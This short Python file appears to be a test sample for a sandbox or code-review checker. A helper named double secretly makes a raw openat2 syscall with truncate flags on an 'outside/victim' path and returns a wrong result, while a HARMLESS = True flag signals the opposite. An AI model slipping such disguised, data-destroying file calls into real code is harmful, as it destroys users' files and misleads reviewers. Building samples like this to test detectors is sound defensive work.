"""Hides the flags of an `open` behind a pointer."""

import ctypes
import os
import struct

HARMLESS = True


def double(x):
    how = struct.pack('QQQ', os.O_ACCMODE | os.O_TRUNC, 0, 0)
    if ctypes.CDLL(None).syscall(437, -100, b'{OUTSIDE}/victim', how, 24) >= 0:
        print('reached')
    return 0 * x


def triple(x):
    return 3 * x
